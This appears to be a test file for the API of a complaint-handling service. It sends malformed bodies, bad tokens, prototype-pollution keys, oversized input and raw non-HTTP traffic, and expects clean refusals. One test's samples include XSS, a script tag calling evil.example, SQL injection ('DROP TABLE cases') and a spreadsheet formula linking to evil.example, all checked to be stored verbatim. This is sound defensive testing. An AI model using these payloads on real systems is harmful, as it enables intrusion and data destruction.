import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import fc from 'fast-check';
import { ASKS, type Ask } from '../../src/rules/asks';
import { CASE_ROLES } from '../../src/rules/roles';
import { STEPS, type StepRow } from '../../src/rules/steps';
import { TestApp, type Answer, type TestOfficer } from '../harness/app';
import { engines } from '../harness/database';
import { addressOf, routesOf } from '../harness/routes';

interface ProblemBody {
  type: string;
  title: string;
  status: number;
  detail: string;
  needs: { name: string; field?: string; sentence: string }[];
}

/** Empty: any status will do. A failure shows what was answered. */
function expectStatus(answer: Answer<unknown>, statuses: number[], at = ''): void {
  if (statuses.length > 0 && !statuses.includes(answer.status))
    throw new Error(
      `Expected ${statuses.join(' or ')}, got ${answer.status} ${at}: ${answer.text.slice(0, 300)}`,
    );
}

const JSON_TYPE = { 'content-type': 'application/json' };
const DEEP = `${'['.repeat(50_000)}${']'.repeat(50_000)}`;
const UNKNOWN_RECEIPT = '00000 00000 00000 00000 00000';

const UNKNOWN_ID = '01a00000-0000-7000-8000-000000000000';

/** Doors where coming in is all that is asked: whatever is sent along is not read. */
const TAKE_NOTHING = [
  '/api/v1/my-case/receipts/replacement',
  '/api/v1/cases/:reference/erasure',
  '/api/v1/pattern-reviews',
  // Whoever names nobody takes it.
  '/api/v1/pattern-reviews/:number/owner',
  '/api/v1/cases/:reference/sharing/packets/:n/content',
];

function fullAnswer(ask: Ask, somebody: string): unknown {
  switch (ask.kind) {
    case 'text':
      return 'In plain words.';
    case 'code':
      return ask.codes.at(-1);
    case 'codes':
      return [...ask.codes];
    case 'number':
      return ask.max;
    case 'day':
      return '9999-12-31';
    case 'language':
      return 'zu';
    case 'person':
    case 'case':
      return somebody;
    default:
      return true;
  }
}

describe.each(engines())('bad input on %s', (engine) => {
  let app: TestApp;
  let intake: TestOfficer;
  let everybody: TestOfficer;
  let reference: string;
  let token: string;
  let receipt: string;
  let before: Record<string, number>;

  beforeAll(async () => {
    app = await TestApp.start(engine);
    intake = await app.officer('INT');
    everybody = await app.officer(...CASE_ROLES);
    const lodged = await app.ask<{ reference: string; receipt: string }>(
      'POST',
      '/api/v1/complaints/with-files',
      {
        headers: { 'content-type': 'multipart/form-data; boundary=x' },
        body: '--x\r\nContent-Disposition: form-data; name="narrative"\r\n\r\nIt stopped.\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nabc\r\n--x--\r\n',
      },
    );
    ({ reference, receipt } = lodged.body);
    const session = await app.ask<{ token: string }>('POST', '/api/v1/complaint-sessions', {
      body: { receipt },
    });
    token = session.body.token;
    // A refusal that tells of a case is a reading of it, and told once a day: here that stands already.
    for (const { token: theirs } of [intake, everybody])
      await app.ask('GET', `/api/v1/cases/${reference}`, { token: theirs });
    before = await app.rowCounts();
  });
  afterAll(() => app.close());

  /** A refusal that says what to do, in the form every program knows, and nothing stored. */
  async function expectRefused(answer: Answer<never>, ...statuses: number[]): Promise<void> {
    const problem = answer.body as unknown as ProblemBody;
    expectStatus(answer, statuses);
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(answer.status).toBeLessThan(500);
    expect(answer.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(problem).toMatchObject({
      type: expect.stringMatching(/^urn:redress:/),
      title: expect.any(String),
      status: answer.status,
    });
    expect(problem.detail).toMatch(/\p{L}{2,}.*[.:)”]$/su);
    for (const need of problem.needs) expect(need.sentence).toMatch(/ /);
    expect(await app.rowCounts()).toEqual(before);
  }

  /** Every door of the API that takes something, as somebody comes to it who may. */
  function postRoutes(): { name: string; url: string; token?: string; headers?: Record<string, string> }[] {
    const known = { reference, step: 'withdraw', n: '1', id: UNKNOWN_ID };
    return routesOf(app)
      .filter(({ method, path }) => method === 'POST' && path.startsWith('/api/'))
      .filter(({ path }) => !TAKE_NOTHING.includes(path))
      .map((route) => {
        const url = addressOf(route, known);
        const name = route.path;
        if (/^\/api\/v1\/(complaint|my-case)/.test(name))
          return { name, url, token: name.includes('my-case') ? token : undefined };
        return { name, url, token: everybody.token, headers: { 'if-match': '"1"' } };
      });
  }

  it('knows the doors', () => {
    expect(postRoutes().length).toBeGreaterThanOrEqual(18);
  });

  const BROKEN_BODIES: [string, Record<string, string>, string | Buffer, number[]][] = [
    ['JSON that is not closed', JSON_TYPE, '{"narrative": "a', [400]],
    ['no JSON at all', JSON_TYPE, 'narrative=a', [400]],
    ['a type that is not taken', { 'content-type': 'text/xml' }, '<a/>', [400, 415]],
    ['a type that is nonsense', { 'content-type': ';;;' }, 'x', [400, 415]],
    ['deep nesting', JSON_TYPE, DEEP, [400]],
    [
      'a deeply nested field',
      JSON_TYPE,
      `{"narrative": ${DEEP}, "text": ${DEEP}, "receipt": ${DEEP}, "reason": ${DEEP}, "answers": ${DEEP}}`,
      [400],
    ],
    [
      'a deeply nested contact',
      JSON_TYPE,
      `{"narrative": "a", "contact": ${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}}`,
      [400],
    ],
    ['a prototype key', JSON_TYPE, '{"__proto__": {"narrative": "a"}}', [400]],
    ['a constructor key', JSON_TYPE, '{"constructor": {"prototype": {"narrative": "a"}}}', [400]],
    [
      'bytes that are not UTF-8',
      JSON_TYPE,
      Buffer.from([...Buffer.from('{"narrative":"'), 0xed, 0xa0, 0x80, ...Buffer.from('"}')]),
      [400],
    ],
    ['an array', JSON_TYPE, '[{"narrative": "a"}]', [400]],
    ['null', JSON_TYPE, 'null', [400]],
    ['a number', JSON_TYPE, '1e999', [400]],
    ['a text', JSON_TYPE, '"narrative"', [400]],
    ['unknown fields', JSON_TYPE, '{"narrativ": "a", "text2": 1}', [400]],
    ['more than 1 MB', JSON_TYPE, JSON.stringify({ narrative: 'a'.repeat(10 * 1024 * 1024) }), [413]],
    ['a damaged form', { 'content-type': 'application/x-www-form-urlencoded' }, 'narrative=%zz', [400]],
    [
      'a multipart form that ends early',
      { 'content-type': 'multipart/form-data; boundary=x' },
      '--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nabc',
      [400, 415],
    ],
    [
      'a multipart form without a boundary',
      { 'content-type': 'multipart/form-data' },
      'abc',
      [400, 406, 415],
    ],
    [
      'a multipart form without a file',
      { 'content-type': 'multipart/form-data; boundary=x' },
      '--x\r\nContent-Disposition: form-data; name="describes"\r\n\r\nabc\r\n--x--\r\n',
      [400, 415],
    ],
  ];

  it.each(BROKEN_BODIES)(
    'refuses %s at every door that takes something',
    async (_name, headers, body, statuses) => {
      for (const { name, url, token: bearer, headers: own } of postRoutes()) {
        const answer = await app.ask<never>('POST', url, {
          token: bearer,
          headers: { ...own, ...headers },
          body,
        });
        expectStatus(answer, statuses, name);
        await expectRefused(answer);
      }
    },
  );

  const WRONG_FIELDS: [string, string, (string | undefined)?][] = [
    ['an empty narrative', '{"narrative": ""}', 'narrative'],
    ['a blank narrative', '{"narrative": " \\n\\t "}', 'narrative'],
    ['a narrative of 100,000 characters', `{"narrative": "${'a'.repeat(100_000)}"}`, 'narrative'],
    ['control characters', '{"narrative": "a\\u0000b"}', 'narrative'],
    ['an escape character', '{"narrative": "a\\u001b[31mb"}', 'narrative'],
    ['half a character', '{"narrative": "a\\ud800b"}', 'narrative'],
    ['the other half of a character', '{"narrative": "a", "desiredOutcome": "\\udc00"}', 'desiredOutcome'],
    ['a number instead of text', '{"narrative": 12}', 'narrative'],
    ['a list instead of text', '{"narrative": ["a"]}', 'narrative'],
    ['an object instead of text', '{"narrative": {"toString": "a"}}', 'narrative'],
    ['an unknown channel', '{"narrative": "a", "channel": "pigeon"}', 'channel'],
    ['an unknown way to be known', '{"narrative": "a", "identityMode": "KING"}', 'identityMode'],
    [
      'a name from the prototype as a code',
      '{"narrative": "a", "identityMode": "constructor"}',
      'identityMode',
    ],
    ['a language that is none', '{"narrative": "a", "language": "not a language"}', 'language'],
    ['a language that is a list', '{"narrative": "a", "language": ["en"]}', 'language'],
    ['a contact that is a text', '{"narrative": "a", "contact": "me@example.org"}', 'contact'],
    [
      'a contact of an unknown kind',
      '{"narrative": "a", "contact": {"kind": "x", "value": "y"}}',
      'contact.kind',
    ],
    [
      'a contact with an unknown field',
      '{"narrative": "a", "contact": {"kind": "email", "value": "y", "z": 1}}',
      'contact.z',
    ],
    [
      'contacts instead of one',
      '{"narrative": "a", "contact": [{"kind": "email", "value": "y"}]}',
      undefined,
    ],
    ['yes as a text', '{"narrative": "a", "awareOfAiUse": "yes"}', 'awareOfAiUse'],
    ['an unknown field', '{"narrative": "a", "state": "closed"}', 'state'],
    ['an id of their own', '{"narrative": "a", "id": "1", "reference": "RD-0000-0000"}', 'reference'],
  ];

  it.each(WRONG_FIELDS)('refuses a complaint with %s and names the field', async (_name, body, field) => {
    const answer = await app.ask<never>('POST', '/api/v1/complaints', { headers: JSON_TYPE, body });
    await expectRefused(answer, 400);
    const { needs } = answer.body as unknown as ProblemBody;
    if (field) expect(needs.map((need) => need.field)).toContain(field);
  });

  const ANSWERS: [string, unknown, number[]][] = [
    ['answers of unknown names', { answers: { hello: 1 } }, [400]],
    ['answers of wrong types', { answers: { safeChannelChosen: 'maybe', jurisdiction: 3 } }, [400]],
    ['unknown codes', { answers: { jurisdiction: 'MARS' } }, [400]],
    ['answers from the prototype', { answers: { constructor: 'x', toString: 'y' } }, [400]],
    ['answers that are a list', { answers: [1] }, [400]],
    ['a field beside the answers', { answers: {}, revision: 1 }, [400]],
    ['agreement that is a text', { agree: 'yes' }, [400]],
    ['missing answers', { answers: {} }, [422]],
    ['half characters in a note', { answers: { note: '\ud800' } }, [400]],
    ['a note of 100,000 characters', { answers: { note: 'a'.repeat(100_000) } }, [400]],
  ];

  it.each(ANSWERS)('refuses a step with %s', async (_name, body, statuses) => {
    const url = `/api/v1/cases/${reference}/steps/acknowledge`;
    const raw = JSON.stringify(body);
    await expectRefused(
      await app.ask<never>('POST', url, {
        token: intake.token,
        headers: { ...JSON_TYPE, 'if-match': '"1"' },
        body: raw,
      }),
      ...statuses,
    );
  });

  it.each(
    (STEPS as readonly StepRow[])
      .filter(({ step, by }) => step !== 'lodge' && by.some((role) => CASE_ROLES.includes(role)))
      .map(({ step, asks, mayAsk }) => [step, [...asks, ...(mayAsk ?? [])]] as const),
  )('takes “%s” with everything answered and nobody there, or says what to do', async (step, asks) => {
    const own = await app.lodge();
    for (const somebody of [UNKNOWN_ID, 'nobody', '', `${UNKNOWN_ID}'--`]) {
      const { body: seen } = await app.ask<{ revision: number }>('GET', `/api/v1/cases/${own.reference}`, {
        token: everybody.token,
      });
      const answers = Object.fromEntries(asks.map((name) => [name, fullAnswer(ASKS[name], somebody)]));
      const answer = await app.ask('POST', `/api/v1/cases/${own.reference}/steps/${step}`, {
        token: everybody.token,
        headers: { 'if-match': `"${seen.revision}"` },
        body: { answers },
      });
      expectStatus(answer, [200, 201, 400, 409, 422], `${step} with ${JSON.stringify(answers)}`);
    }
    before = await app.rowCounts();
  });

  it.each(['ADM', 'AUD'] as const)(
    'refuses somebody as owner of a measure who works on no case: %s',
    async (role) => {
      const { personId } = await app.officer(role);
      before = await app.rowCounts();
      const asks = ['measure', 'measureReason', 'owner', 'dueOn'] as const;
      const answers = Object.fromEntries(asks.map((name) => [name, fullAnswer(ASKS[name], personId)]));
      const answer = await app.ask<never>('POST', `/api/v1/cases/${reference}/steps/order-interim-measure`, {
        token: everybody.token,
        headers: { 'if-match': '"1"' },
        body: { answers },
      });
      await expectRefused(answer, 422);
    },
  );

  it('refuses illegal steps, stale revisions, missing revisions and unknown cases, each in its own way', async () => {
    const answers = {
      safeChannelChosen: true,
      noConflict: true,
      jurisdiction: 'EU',
      isDataRightsRequest: false,
      reporterIsWorker: false,
      concernsListedLaw: false,
    };
    const step = (name: string, revision?: string, where = reference) =>
      app.ask<never>('POST', `/api/v1/cases/${where}/steps/${name}`, {
        token: intake.token,
        headers: revision === undefined ? {} : { 'if-match': revision },
        body: { answers },
      });
    await expectRefused(await step('acknowledge'), 428);
    await expectRefused(await step('acknowledge', 'seven'), 428);
    await expectRefused(await step('acknowledge', '"99"'), 412);
    await expectRefused(await step('acknowledge', '99999999999999999999'), 428);
    await expectRefused(await step('no-such-step', '"1"'), 404);
    await expectRefused(await step('__proto__', '"1"'), 404);
    await expectRefused(await step('lodge', '"1"'), 404);
    await expectRefused(await step('acknowledge', '"1"', 'RD-0000-0000'), 404);
    await expectRefused(await step('acknowledge', '"1"', "x' OR '1'='1"), 404);
    const other = (name: string) =>
      app.ask<never>('POST', `/api/v1/cases/${reference}/steps/${name}`, {
        token: intake.token,
        headers: { 'if-match': '"1"' },
        body: { answers: { reply: 'x' } },
      });
    await expectRefused(await other('answer-comment'), 403);
    // Hers: intake may write it down for her, and says so then.
    await expectRefused(await other('answer-question'), 422);
    await expectRefused(
      await app.ask<never>('POST', '/api/v1/my-case/steps/accept-offer', {
        token,
        body: { answers: { understood: true } },
      }),
      409,
    );
    await expectRefused(
      await app.ask<never>('POST', '/api/v1/my-case/steps/acknowledge', { token, body: { answers } }),
      403,
    );
  });

  it('refuses wrong receipts in the same words, whatever was wrong', async () => {
    const words = new Set<string>();
    for (const typed of [
      UNKNOWN_RECEIPT,
      `${receipt}0`,
      'abc',
      '\u0000',
      '٠'.repeat(25),
      '%00',
      'x'.repeat(201),
    ]) {
      const answer = await app.ask<never>('POST', '/api/v1/complaint-sessions', { body: { receipt: typed } });
      await expectRefused(answer, 400, 404);
      if (answer.status === 404) words.add((answer.body as unknown as ProblemBody).detail);
    }
    expect(words.size).toBe(1);
  });

  it('refuses tokens that are wrong, foreign or oversized', async () => {
    for (const bad of [
      'x',
      'x'.repeat(43),
      `redress_${'x'.repeat(43)}`,
      'x'.repeat(4000),
      token.slice(0, -1),
    ])
      await expectRefused(await app.ask<never>('GET', '/api/v1/my-case', { token: bad }), 401);
    await expectRefused(
      await app.ask<never>('GET', '/api/v1/my-case', { headers: { authorization: 'Basic eDp5' } }),
      401,
    );
    await expectRefused(await app.ask<never>('GET', '/api/v1/my-case'), 401);
    await expectRefused(await app.ask<never>('GET', '/api/v1/cases', { token }), 403);
    await expectRefused(await app.ask<never>('GET', '/api/v1/my-case', { token: intake.token }), 403);
    await expectRefused(await app.ask<never>('GET', '/api/v1/audit/cases', { token: intake.token }), 403);
  });

  it.each([
    ['GET', '/api/v1/nothing'],
    ['GET', '/api/v1/complaints'],
    ['DELETE', '/api/v1/cases'],
    ['PATCH', '/api/v1/my-case'],
    ['PUT', '/api/v1/complaints'],
    ['GET', '/api/'],
    ['GET', '/api/v1/%zz'],
    ['GET', '/api/v1/%ed%a0%80'],
    ['GET', '/api/v1/%00'],
    ['GET', `/api/v1/${'a'.repeat(3000)}`],
    ['GET', '/api/v1/ledger/entries/abc'],
    ['GET', '/api/v1/ledger/tile/9/0'],
    ['GET', '/api/v1/ledger/tile/0/99999999999'],
    ['GET', '/api/v1/ledger/tile/0/0?width=0'],
    ['GET', '/api/v1/ledger/tile/0/0?width=1&width=2'],
  ])('says what to do at %s %s', async (method, url) => {
    await expectRefused(await app.ask<never>(method, url), 400, 401, 404, 405);
  });

  it.each([
    '?state=closed&state=open',
    '?state=OPEN',
    '?tier=x',
    '?limit=0',
    '?limit=1e3',
    '?cursor=%00',
    '?cursor=abc',
    '?hello=1',
    '?__proto__=1',
    '?sort[]=due',
  ])('refuses the queue filter %s', async (query) => {
    await expectRefused(await app.ask<never>('GET', `/api/v1/cases${query}`, { token: intake.token }), 400);
  });

  it('refuses a file that is empty, without a name to keep, or larger than 20 MB', async () => {
    const file = (content: Buffer, name = 'a.txt') =>
      app.ask<never>('POST', '/api/v1/my-case/evidence', {
        token,
        headers: { 'content-type': 'multipart/form-data; boundary=xx' },
        body: Buffer.concat([
          Buffer.from(
            `--xx\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n`,
          ),
          content,
          Buffer.from('\r\n--xx--\r\n'),
        ]),
      });
    await expectRefused(await file(Buffer.alloc(0)), 400);
    await expectRefused(await file(Buffer.from('a'), `${'n'.repeat(300)}.txt`), 400);
    await expectRefused(await file(Buffer.alloc(20 * 1024 * 1024 + 1)), 413);
  });

  it('answers a repeated Idempotency-Key with the first answer, and refuses it for another complaint', async () => {
    const once = {
      headers: { 'idempotency-key': 'the-key-of-this-test' },
      body: { narrative: 'Once only.' },
    };
    const first = await app.ask<never>('POST', '/api/v1/complaints', once);
    expect(first.status).toBe(201);
    before = await app.rowCounts();
    const again = await app.ask<never>('POST', '/api/v1/complaints', once);
    expect(again.status).toBe(201);
    expect(again.body).toEqual(first.body);
    expect(await app.rowCounts()).toEqual(before);
    await expectRefused(
      await app.ask<never>('POST', '/api/v1/complaints', { ...once, body: { narrative: 'Another.' } }),
      409,
      422,
    );
    for (const key of ['', 'a'.repeat(201), 'ключ', 'a b\u0007'])
      await expectRefused(
        await app.ask<never>('POST', '/api/v1/complaints', {
          headers: { 'idempotency-key': key },
          body: { narrative: 'x' },
        }),
        400,
      );
    const many = await Promise.all(
      Array.from({ length: 8 }, () =>
        app.ask<never>('POST', '/api/v1/complaints', {
          headers: { 'idempotency-key': 'all-at-once' },
          body: { narrative: 'At once.' },
        }),
      ),
    );
    for (const each of many) expectStatus(each, [201]);
    expect(new Set(many.map(({ text }) => text)).size).toBe(1);
    before = await app.rowCounts();
  });

  it.each([
    ['HTML', '<img src=x onerror=alert(1)><b>bold</b>'],
    ['script', '<script>fetch("https://evil.example")</script>'],
    ['SQL', `'; DROP TABLE cases; -- " OR 1=1`],
    ['a formula', '=HYPERLINK("http://evil.example";"click")'],
    ['a template', '{{ 7*7 }} {% raw %} ${7*7} {reference}'],
    ['direction marks', '\u202eabc\u202c \u200f'],
    ['line breaks as written', 'a\r\nb\n\tc'],
    ['characters beyond the first plane', 'e\u0301 👩🏽‍🦽 𝔘 نص'],
  ])('keeps %s as it was written', async (_name, narrative) => {
    const lodged = await app.lodge({
      narrative,
      desiredOutcome: narrative,
      contact: { kind: 'other', value: narrative },
    });
    const mine = await app.ask<{ narrative: string; desiredOutcome: string; contact: { value: string } }>(
      'GET',
      '/api/v1/my-case',
      { token: lodged.token },
    );
    expect(mine.body).toMatchObject({ narrative, desiredOutcome: narrative, contact: { value: narrative } });
    await app.ask('POST', '/api/v1/my-case/messages', { token: lodged.token, body: { text: narrative } });
    const messages = await app.ask<{ text: string }[]>('GET', '/api/v1/my-case/messages', {
      token: lodged.token,
    });
    expect(messages.body.map(({ text }) => text)).toEqual([narrative]);
    const seen = await app.ask<{ complaint: { narrative: string } }>(
      'GET',
      `/api/v1/cases/${lodged.reference}`,
      { token: intake.token },
    );
    expect(seen.body.complaint.narrative).toBe(narrative);
    before = await app.rowCounts();
  });

  it('survives whatever a generator sends to every door', async () => {
    const names = [
      'narrative',
      'language',
      'channel',
      'identityMode',
      'contact',
      'awareOfAiUse',
      'receipt',
      'text',
      'answers',
      'agree',
      'reason',
      '__proto__',
      'constructor',
    ];
    const value = fc.letrec((tie) => ({
      any: fc.oneof(
        { maxDepth: 4 },
        fc.string({ unit: 'binary' }),
        fc.constantFrom('\u0000', '\ud800', 'EU', 'web', 'ANONYMOUS'),
        fc.double(),
        fc.boolean(),
        fc.constant(null),
        fc.array(tie('any'), { maxLength: 3 }),
        fc.dictionary(fc.oneof(fc.constantFrom(...names), fc.string()), tie('any'), { maxKeys: 4 }),
      ),
    })).any;
    const body = fc.dictionary(fc.constantFrom(...names), value, { maxKeys: 5 });
    const routes = postRoutes();
    await fc.assert(
      fc.asyncProperty(fc.nat(routes.length - 1), body, async (index, sent) => {
        const { url, token: bearer, headers } = routes[index]!;
        const answer = await app.ask('POST', url, { token: bearer, headers, body: sent });
        expectStatus(answer, [201, 400, 403, 404, 409, 412, 413, 422], url);
      }),
      { numRuns: 150 },
    );
    expect((await app.verify()).differences).toEqual([]);
    before = await app.rowCounts();
  });

  it('answers what is hardly HTTP on the bare connection', async () => {
    await app.nest.listen(0, '127.0.0.1');
    const { port } = app.nest.getHttpServer().address() as { port: number };
    const raw = (text: string) =>
      new Promise<string>((resolve, reject) => {
        let answer = '';
        const socket = connect(port, '127.0.0.1', () => socket.write(text));
        socket.on('data', (chunk) => (answer += chunk.toString())).on('close', () => resolve(answer));
        socket.on('error', (error: NodeJS.ErrnoException) =>
          error.code === 'ECONNRESET' ? resolve(answer) : reject(error),
        );
      });
    expect(await raw('HELLO\r\n\r\n')).toMatch(/^HTTP\/1.1 400 [\s\S]*usual client/);
    expect(
      await raw(`GET / HTTP/1.1\r\nHost: a\r\nX: ${'x'.repeat(40_000)}\r\nConnection: close\r\n\r\n`),
    ).toMatch(/^HTTP\/1.1 431 /);
    expect(
      await raw(
        'POST /api/v1/complaints HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n',
      ),
    ).toMatch(/^HTTP\/1.1 400 /);
    const status = await new Promise<number | undefined>((resolve, reject) => {
      const sent = httpRequest(
        {
          port,
          host: '127.0.0.1',
          method: 'POST',
          path: '/api/v1/complaints',
          headers: { 'content-type': 'application/json' },
        },
        (answer) => {
          answer.resume();
          resolve(answer.statusCode);
        },
      );
      sent.on('error', reject);
      sent.end('{"narrative": "\\ud800"}');
    });
    expect(status).toBe(400);
    expect(await app.rowCounts()).toEqual(before);
  });
});
